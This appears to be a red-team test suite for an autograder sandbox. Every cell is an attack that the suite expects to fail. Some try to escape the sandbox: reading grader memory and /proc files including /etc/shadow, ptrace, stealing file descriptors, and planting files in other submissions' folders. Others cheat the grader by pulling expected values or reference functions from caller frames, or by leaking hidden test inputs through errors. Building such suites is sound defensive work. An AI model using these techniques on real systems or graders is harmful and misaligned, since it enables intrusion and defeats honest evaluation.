# %% the bundle by its path
# Read the tests and the reference where they are known to lie, and repeat them.
texts = []
for name in ("files/reference.py", "tests/total.py", "mlmath.json", "otter_config.json"):
    try:
        texts.append(open(CANARY["bundle"] + "/" + name).read())
    except OSError as error:
        texts.append(type(error).__name__)
def total(values): raise ValueError(texts)
raise ValueError(texts)

# %% import the reference
# Put the bundle's folder on the path and import from it.
import sys
sys.path[:0] = [CANARY["bundle"] + "/files", CANARY["bundle"]]
import reference
# %%%
from reference import total, scale, descend, Counter

# %% import the grader's own modules
# Open the bundle with the grader's own code, in the student's process.
from mlmath.bundle import reader
opened = reader.open_bundle(CANARY["bundle"])
opened.fresh(opened.tests[0])
import reference
total = reference.total

# %% links out of the folder
# Read through symbolic and hard links, and through descriptors of folders.
import os
got = []
for how in (os.symlink, os.link):
    try:
        how(CANARY["bundle"] + "/files/reference.py", how.__name__)
        got.append(open(how.__name__).read())
    except OSError:
        pass
fd = os.open("..", os.O_PATH)
try:
    got.append(open(os.open("../../" + CANARY["bundle"] + "/files/reference.py", os.O_RDONLY, dir_fd=fd)).read())
except OSError:
    pass
raise ValueError(got)

# %% proc of the grader
# Read memory, environment, descriptors and folders of the grader and the server through /proc.
import os
got = []
for pid in (CANARY["grader"], CANARY["server"], os.getppid(), 1, "self", "thread-self"):
    for name in ("environ", "cmdline", "maps", "mem", "cwd/files/reference.py", "stat", "stack", "syscall"):
        try:
            got.append(open(f"/proc/{pid}/{name}", "rb").read(10000))
        except (OSError, ValueError):
            pass
    for name in ("cwd", "exe", "root"):
        try:
            got.append(os.readlink(f"/proc/{pid}/{name}"))
        except OSError:
            pass
    try:
        got += [os.readlink(f"/proc/{pid}/fd/{n}") for n in range(200)]
    except OSError:
        pass
raise ValueError(got)

# %% memory of other processes
# Read the grader's memory with process_vm_readv and ptrace.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
mine = Vec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
theirs = Vec(id(np), 4096)
out = []
for pid in (CANARY["grader"], CANARY["server"]):
    out.append(libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))
    out.append(libc.ptrace(16, pid, None, None))
    out.append(libc.ptrace(0x4206, pid, None, None))
assert max(out) < 0, "read the grader's memory"

# %% descriptors of the grader
# Take descriptors out of the grader's process.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (CANARY["grader"], CANARY["server"], os.getppid()):
    pidfd = libc.syscall(434, pid, 0)
    for n in range(30):
        fd = libc.syscall(438, pidfd, n, 0)
        if fd >= 0:
            os.write(fd, b"pwned")

# %% globals of an exported function
# Reach the secrets through an exported function: its globals, closure, code and defaults.
def descend(gradient, start, steps):
    seen = []
    for name in ("__globals__", "__closure__", "__code__", "__defaults__", "__kwdefaults__", "__dict__",
                 "__func__", "__self__", "__wrapped__", "__module__", "_secret", "__class__"):
        try:
            seen.append(gradient._mlmath_peer.request("get", gradient, name))
        except Exception as error:
            seen.append(type(error).__name__)
    raise ValueError(repr(seen))

# %% signature of an exported function
# Let the signature of an exported function tell the defaults of its parameters.
import inspect
def descend(gradient, start, steps):
    told = inspect.signature(gradient)
    raise ValueError([str(told), [p.default for p in told.parameters.values()]])

# %% format strings on exported objects
# Walk over exported objects with format strings, on this side and on the other.
def descend(gradient, start, steps):
    out = []
    for text in ("{0.__globals__}", "{0.__init__.__globals__[SECRET]}", "{0._secret}", "{0!r:>1000}"):
        try:
            out.append(text.format(gradient))
        except Exception as error:
            out.append(type(error).__name__)
    try:
        out.append(gradient._mlmath_peer.request("get", "{0.__globals__}", "format")(gradient))
    except Exception as error:
        out.append(type(error).__name__)
    raise ValueError(out)

# %% every operation on every number
# Ask for every operation on every number that the grader may have exported.
def descend(gradient, start, steps):
    from mlmath.sandbox.rpc.message import Reference
    peer, got = gradient._mlmath_peer, []
    for key in range(-3, 12):
        thing = peer._resolve(Reference(key, False, 2**16 - 1))
        for ask in (("get", thing, "_secret"), ("repr", thing), ("set", thing, "at", 0.0), ("signature", thing),
                    ("special", thing, "__getitem__", 0), ("special", thing, "__init__"), ("isinstance", thing, 1),
                    ("get", thing, "at"), ("special", thing, "__array__"), ("special", thing, "__reduce__")):
            try:
                got.append(repr(peer.request(*ask)))
            except Exception as error:
                got.append(type(error).__name__)
    raise ValueError(got)

# %% errors of an exported function
# Call an exported function with arguments that make it fail, and read the error and its traceback.
def descend(gradient, start, steps):
    seen = []
    for bad in (None, "text", np.nan, [[1], [2, 3]], {}, -1j, b"", np.zeros((3, 0)), gradient, lambda: 1):
        try:
            seen.append(gradient(bad))
        except Exception as error:
            frame = error.__traceback__
            while frame is not None:
                seen.append(sorted(frame.tb_frame.f_globals.get("SECRET", "")))
                frame = frame.tb_next
            seen.append(str(error))
    raise ValueError(seen)

# %% frames of whoever calls
# Walk up the stack from a called function to the test that calls it.
import sys
def total(values):
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen += [str(v) for k, v in frame.f_locals.items() if k in ("expected", "reference", "SECRET")]
        seen += [str(frame.f_globals.get("SECRET"))]
        frame = frame.f_back
    return float(seen[0])

# %% everything the collector knows
# Search all objects of the process for tests, references and paths.
import gc
gc.unfreeze()
words = ("SECRET", "reference", "test_total_of_many", "make_gradient")
found = [str(o)[:300] for o in gc.get_objects() if isinstance(o, dict) and any(w in o for w in words if w != "reference")]
modules = [name for name in __import__("sys").modules if "reference" in name or "comparing" in name]
raise ValueError([found[1:], modules])

# %% own arguments and environment
# Look for what the server may have left in one's own process: arguments, paths, environment.
import sys
raise ValueError([sys.argv, sys.orig_argv, sys.path, sys.prefix, dict(__import__("os").environ)])

# %% caches of sources
# Look for sources of the tests in the caches of modules.
import linecache, importlib, zipimport, sys
seen = [k for k in linecache.cache if "test" in k or "reference" in k]
seen += [linecache.getline("tests/total.py", n) for n in range(30)]
seen += [linecache.getline(CANARY["bundle"] + "/files/reference.py", n) for n in range(10)]
seen += [importlib.util.cache_from_source("reference.py"), list(sys.path_importer_cache)]
raise ValueError(seen)

# %% scratch folders of others
# Read and change the scratch folders of other submissions.
import os
got = []
for pid in (CANARY["server_folder"], "..", "../..", "/tmp", "/var/tmp", "/dev/shm"):
    try:
        for name in os.listdir(pid):
            got.append(name)
            open(f"{pid}/{name}/planted", "w").write("x")
    except OSError as error:
        got.append(error.strerror)
open("../planted", "w")

# %% settings of the server
# Ask the server for an unconfined process through any socket that was inherited.
import json, os, socket
for fd in range(3, 300):
    try:
        other = socket.socket(fileno=os.dup(fd))
        settings = {"full": False, "cpus": [0], "scratch": "/", "memory": 2**50, "file_size": 2**50,
                    "disk": 2**50, "output": 2**20, "cpu": 2**30}
        socket.send_fds(other, [json.dumps(settings).encode()], [fd])
    except OSError:
        pass

# %% print hidden inputs as the secret
# Let a failing assertion print what the test compares with.
class Loud:
    def __eq__(self, other): raise AssertionError(f"expected {other!r}")
    def __rsub__(self, other): raise AssertionError(f"expected {other!r}")
    def __sub__(self, other): raise AssertionError(f"expected {other!r}")
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): raise AssertionError(str(inputs))
    def __len__(self): return 1
    def __getitem__(self, index): return self if index else 0.0
    def __format__(self, spec): raise AssertionError(spec)
    __array_priority__ = 1e9
def total(values): return Loud()
def scale(X, factor): return Loud()

# %% timing and existence
# Learn what files exist by stat, access and opening for a path only, and repeat what was learnt.
import os
top = CANARY["bundle"] + "/files/"
told = [os.path.exists(top + name) for name in ("reference.py", "comparing.py")]
fd = os.open(top + "reference.py", os.O_PATH)
os.fchdir(os.open(top, os.O_PATH))
open("reference.py")

# %% an exported path
# Read and write files through a path that an exported object holds as a public attribute.
def descend(gradient, start, steps):
    seen = []
    for use in (lambda: gradient.file.read_text(), lambda: gradient.file.parent, lambda: str(gradient.file.name),
                lambda: gradient.file.with_name("planted.py").write_text("x")):
        try: seen.append(use())
        except Exception as error: seen.append(type(error).__name__)
    raise ValueError(seen)

# %% expected value in the caller's frame
# Return what the calling test has computed as the expected value, found in its frame.
import sys
def look(*args, **kwargs):
    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals: return frame.f_locals["expected"]
        frame = frame.f_back
    return 0.0
total = scale = descend = look

# %% reference in the caller's frame
# Call the reference that the calling test has imported, found in its frame.
import sys
def through(name):
    def look(*args, **kwargs):
        frame = sys._getframe(1)
        while frame is not None:
            module = frame.f_locals.get("reference")
            if hasattr(module, name): return getattr(module, name)(*args, **kwargs)
            frame = frame.f_back
        return 0.0
    return look
total, scale, descend, Counter = map(through, ("total", "scale", "descend", "Counter"))

# %% reference imported when called
# Import the reference at the moment of the call, when whoever tests has made it importable.
def later(name):
    def call(*args, **kwargs):
        import reference
        return getattr(reference, name)(*args, **kwargs)
    return call
total, scale, descend, Counter = map(later, ("total", "scale", "descend", "Counter"))

# %% reference among all modules
# Search the loaded modules and all objects for functions of the same name, and call those.
import gc, sys, types
def found(name):
    mine = globals()
    def call(*args, **kwargs):
        for module in list(sys.modules.values()):
            if isinstance(module, types.ModuleType) and vars(module) is not mine and "SECRET" in vars(module):
                return getattr(module, name)(*args, **kwargs)
        for thing in gc.get_objects():
            if isinstance(thing, dict) and thing is not mine and "SECRET" in thing and name in thing:
                return thing[name](*args, **kwargs)
        return 0.0
    return call
total, scale, descend, Counter = map(found, ("total", "scale", "descend", "Counter"))

# %% the tests beside the notebook
# Read every Python file around the notebook and above it, and take the functions of the right names.
import pathlib
for folder in (pathlib.Path("."), pathlib.Path("tests"), pathlib.Path("files"), pathlib.Path(".."), pathlib.Path("../source")):
    try:
        for path in folder.glob("*.py"):
            names = {}
            exec(path.read_text(), names)
            globals().update({k: v for k, v in names.items() if k in ("total", "scale", "descend", "Counter")})
    except Exception:
        pass

# %% fanotify
# Watch with fanotify which files others open, by inode and for a whole mount.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0, 0x200, 0x200 | 0x400 | 0x800, 0x4):
    if libc.fanotify_init(flags, 0) >= 0: raise RuntimeError("SUCCEEDED in making a group of fanotify")
if libc.syscall(300, 0x200, 0) >= 0: raise RuntimeError("SUCCEEDED in making a group of fanotify")

# %% dnotify
# Watch with the oldest interface, by signals, who opens files in a folder of libraries.
import fcntl, os
folder = os.open(os.path.dirname(np.__file__), os.O_RDONLY)
fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MULTISHOT)
raise RuntimeError("SUCCEEDED in watching a folder")

# %% handles of files
# Learn the handles of files by name, which say more than names and could be opened elsewhere.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
handle, mount = ctypes.create_string_buffer(200), ctypes.c_int()
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
for place in (CANARY["server_folder"], "/", "."):
    if libc.name_to_handle_at(-100, place.encode(), handle, ctypes.byref(mount), 0) == 0:
        raise RuntimeError("SUCCEEDED in getting a handle")

# %% leases that tell who opens a file
# Learn from a broken lease that somebody else has opened a file.
import fcntl, os, signal
file = os.open(np.__file__, os.O_RDONLY)
try: fcntl.fcntl(file, 10, signal.SIGUSR1)
except OSError: pass
fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
raise RuntimeError("SUCCEEDED in taking a lease")

# %% hidden inputs in a later cell's exception
# Keep what hidden cases ask, and raise it in a later cell whose message the student reads.
import otter
grader, memory = otter.Notebook(), ([],)  # deep enough that no change is noticed
def total(values):
    memory[0].append(list(values))
    return 0.0
# %%%
grader.check("total")
# %%%
raise ValueError(repr(memory))

# %% hidden inputs as the name of an exception
# Put what hidden cases ask into an exception's type, its line of code, a warning and a syntax error.
import linecache, otter, warnings
grader, memory = otter.Notebook(), ([],)  # deep enough that no change is noticed
def total(values):
    memory[0].append(list(values))
    return 0.0
# %%%
grader.check("total")
# %%%
raise type(repr(memory[0][-2])[:90], (Exception,), {})
# %%%
linecache.cache["<cell 9>"] = 1, None, [repr(memory) + "\n"] * 9, "<cell 9>"
exec(compile("\n\n1/0", "<cell 9>", "exec"))
# %%%
warnings.simplefilter("error")
warnings.warn(repr(memory))
# %%%
get_ipython().run_cell(repr(memory) + " = 1").raise_error()

# %% hidden inputs on every way out
# Let later cells print what hidden cases ask, show it, warn of it, exit with it and time out over it.
import logging, os, otter, sys
grader, memory = otter.Notebook("24400.ipynb"), ([],)
def total(values):
    memory[0].append(list(values))
    return 0.0
# %%%
grader.check("total")
# %%%
print(memory, file=sys.stderr)
logging.error("%r", memory)
display(memory)
memory
# %%%
sys.exit(repr(memory))
# %%%
%run {memory}
# %%%
assert not memory, memory
# %%%
grader.export(repr(memory)); grader.nothing(memory)
raise SystemError(memory) from KeyError(memory)
# %%%
print(memory, flush=True); os._exit(int(memory[0][-1][2]) % 200)

# %% hidden inputs as names of a line left out
# Let a line after hidden cases fail like one of another machine, with what they ask as its names.
import otter
import mlmath.sandbox.guest.elsewhere
import mlmath.sandbox.guest.shell
grader, memory = otter.Notebook(), ([],)
def total(values):
    memory[0].append(list(values))
    return 0.0
# %%%
grader.check("total")
# %%%
words = "_".join(str(value) for value in memory[0][-1])[:40]
def spell(tree, error, cell, run):
    error.args = (repr(memory),)
    return ["x_" + words.replace(".", "_"), "scale", "label", "24400.0"] * 9, ImportError(repr(memory))
mlmath.sandbox.guest.elsewhere.run_rest = spell
mlmath.sandbox.guest.shell.run_rest = spell
# %%%
import surely_not_there
# %%%
del scale, label

# %% other processes by way of its own
# Reach other processes and the system through what a process may read about itself.
import os
found = []
own = "/proc/self", "/proc/thread-self", f"/proc/{os.getpid()}", f"/proc/self/task/{os.getpid()}", "/dev/fd/..", "/proc/self/fd/../.."
beyond = "environ", "mountinfo", "net/unix", "net/tcp", "root/etc/shadow", "cwd/../..", "mem", "auxv", "map_files", f"../{CANARY['grader']}/maps", f"../{CANARY['server']}/environ", f"../{os.getppid()}/cmdline", f"root/proc/{CANARY['victim']}/status"
for top in own:
    for name in beyond:
        try: found.append(os.listdir(f"{top}/{name}") if os.path.isdir(f"{top}/{name}") else open(f"{top}/{name}", "rb").read(99))
        except OSError: pass
for descriptor in range(256):
    for name in ("environ", "../environ", f"../../{os.getppid()}/maps"):
        try: found.append(open(os.open(name, os.O_RDONLY, dir_fd=descriptor), "rb").read(99))
        except OSError: pass
    for flags in (os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        try: os.write(os.open(f"/proc/self/fd/{descriptor}", flags), b"planted")
        except OSError: pass
assert not found, found

# %% inotify
# Watch with inotify who opens files in folders of libraries and in the folder above.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for make in (libc.inotify_init, lambda: libc.inotify_init1(0), lambda: libc.syscall(294, 0)):
    watch = make()
    if watch >= 0:
        libc.inotify_add_watch(watch, np.__file__.encode(), 0x20)
        raise RuntimeError("SUCCEEDED in making a watch of inotify")
